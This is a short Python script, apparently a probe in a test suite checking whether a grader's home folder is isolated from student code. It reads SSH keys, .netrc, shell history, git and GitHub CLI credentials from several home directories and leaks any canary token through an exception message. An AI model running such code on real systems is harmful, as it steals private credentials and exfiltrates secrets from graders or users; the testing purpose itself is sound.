"""Reads the keys and passwords in the grader's home folder.

Observed: the home folder of a worker is its own.
Says: LOOT None
"""

import os
import re


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


found = ""
for home in (os.path.expanduser("~"), "@WORLD@/home", "/root", "/home"):
    for name in (".netrc", ".ssh/id_rsa", ".bash_history", ".git-credentials", ".config/gh/hosts.yml"):
        try:
            found += open(os.path.join(home, name)).read()
        except OSError:
            pass
loot(found)
